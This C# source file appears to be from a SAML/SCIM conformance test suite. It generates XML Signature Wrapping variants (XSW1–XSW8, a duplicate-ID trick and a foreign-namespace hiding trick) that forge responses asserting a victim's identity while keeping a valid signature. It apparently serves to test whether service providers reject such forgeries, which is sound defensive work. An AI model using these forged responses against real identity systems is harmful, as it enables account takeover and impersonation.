using System.Xml;

namespace ScimConformance.TestIdp;

/// <summary>
/// The known ways to keep a valid signature in a response and slip another assertion in beside what was signed (Somorovsky and
/// others, "On Breaking SAML", 2012; the numbers are those that its tools use).
/// </summary>
public static class SignatureWrapping
{
    private const string SignatureNamespace = "http://www.w3.org/2000/09/xmldsig#";

    public static IReadOnlyDictionary<
        string,
        Func<TestIdentityProvider, SamlLogin, string, XmlDocument>
    > Shapes { get; } =
        new Dictionary<string, Func<TestIdentityProvider, SamlLogin, string, XmlDocument>>(
            StringComparer.Ordinal
        )
        {
            ["XSW1: signed response in an object of the signature"] = (idp, login, victim) =>
                OfResponse(idp, login, victim, inObject: true),
            ["XSW2: signed response beside the signature"] = (idp, login, victim) =>
                OfResponse(idp, login, victim, inObject: false),
            ["XSW3: evil assertion before the signed one"] = (idp, login, victim) =>
                OfAssertion(idp, login, victim, (response, evil, _) => response.PrependChild(evil)),
            ["XSW4: signed assertion inside the evil one"] = (idp, login, victim) =>
                OfAssertion(
                    idp,
                    login,
                    victim,
                    (response, evil, signed) =>
                    {
                        response.ReplaceChild(evil, signed);
                        evil.AppendChild(signed);
                    }
                ),
            ["XSW5: signature in the evil assertion, signed one at the end"] = (
                idp,
                login,
                victim
            ) =>
                OfAssertion(
                    idp,
                    login,
                    victim,
                    (response, evil, signed) =>
                    {
                        var signature = Signature(signed);
                        response.ReplaceChild(evil, signed);
                        evil.InsertAfter(signature, evil.FirstChild);
                        response.AppendChild(signed);
                    }
                ),
            ["XSW6: signed assertion inside the signature of the evil one"] = (
                idp,
                login,
                victim
            ) =>
                OfAssertion(
                    idp,
                    login,
                    victim,
                    (response, evil, signed) =>
                    {
                        var signature = Signature(signed);
                        response.ReplaceChild(evil, signed);
                        evil.InsertAfter(signature, evil.FirstChild);
                        signature.AppendChild(signed);
                    }
                ),
            ["XSW7: evil assertion in an extension"] = (idp, login, victim) =>
                OfAssertion(
                    idp,
                    login,
                    victim,
                    (response, evil, signed) =>
                        response
                            .InsertBefore(
                                response.OwnerDocument.CreateElement(
                                    "samlp",
                                    "Extensions",
                                    SamlMarkup.ProtocolNamespace
                                ),
                                signed
                            )!
                            .AppendChild(evil)
                ),
            ["XSW8: signed assertion in an object of the evil one's signature"] = (
                idp,
                login,
                victim
            ) =>
                OfAssertion(
                    idp,
                    login,
                    victim,
                    (response, evil, signed) =>
                    {
                        var signature = Signature(signed);
                        response.ReplaceChild(evil, signed);
                        evil.InsertAfter(signature, evil.FirstChild);
                        signature
                            .AppendChild(
                                response.OwnerDocument.CreateElement(
                                    "ds",
                                    "Object",
                                    SignatureNamespace
                                )
                            )!
                            .AppendChild(signed);
                    }
                ),
            ["the same id twice"] = (idp, login, victim) =>
                OfAssertion(
                    idp,
                    login,
                    victim,
                    (response, evil, signed) =>
                    {
                        evil.SetAttribute("ID", signed.GetAttribute("ID"));
                        response.InsertBefore(evil, signed);
                    }
                ),
            ["signed assertion hidden under a foreign name"] = (idp, login, victim) =>
                OfAssertion(
                    idp,
                    login,
                    victim,
                    (response, evil, signed) =>
                    {
                        var signature = Signature(signed);
                        response.ReplaceChild(evil, signed);
                        evil.SetAttribute("ID", signed.GetAttribute("ID"));
                        evil.InsertAfter(signature, evil.FirstChild);
                        var hidden = response.OwnerDocument.CreateElement("x", "Hidden", "urn:x");
                        hidden.AppendChild(signed);
                        response.AppendChild(hidden);
                    }
                ),
        };

    private static XmlDocument OfAssertion(
        TestIdentityProvider idp,
        SamlLogin login,
        string victim,
        Action<XmlElement, XmlElement, XmlElement> wrap
    )
    {
        var document = idp.Answer(login);
        var signed = SamlMarkup.Assertion(document);
        var evil = (XmlElement)
            document.ImportNode(
                SamlMarkup.Assertion(
                    SamlMarkup.Response(
                        login with
                        {
                            NameId = victim,
                        },
                        TestIdentityProvider.EntityId
                    )
                ),
                deep: true
            );
        wrap(document.DocumentElement!, evil, signed);
        return document;
    }

    private static XmlDocument OfResponse(
        TestIdentityProvider idp,
        SamlLogin login,
        string victim,
        bool inObject
    )
    {
        var signed = SamlMarkup.Response(login, TestIdentityProvider.EntityId);
        idp.Sign(signed.DocumentElement!);
        var evil = SamlMarkup.Response(
            login with
            {
                NameId = victim,
            },
            TestIdentityProvider.EntityId
        );
        var root = evil.DocumentElement!;
        var original = (XmlElement)evil.ImportNode(signed.DocumentElement!, deep: true);
        var signature = Signature(original);
        root.InsertAfter(signature, root.FirstChild);
        if (inObject)
        {
            signature
                .AppendChild(evil.CreateElement("ds", "Object", SignatureNamespace))!
                .AppendChild(original);
        }
        else
        {
            root.InsertBefore(original, signature);
        }

        return evil;
    }

    private static XmlElement Signature(XmlElement signed)
    {
        var signature = signed
            .ChildNodes.OfType<XmlElement>()
            .Single(child => child.LocalName is "Signature");
        signed.RemoveChild(signature);
        return signature;
    }
}
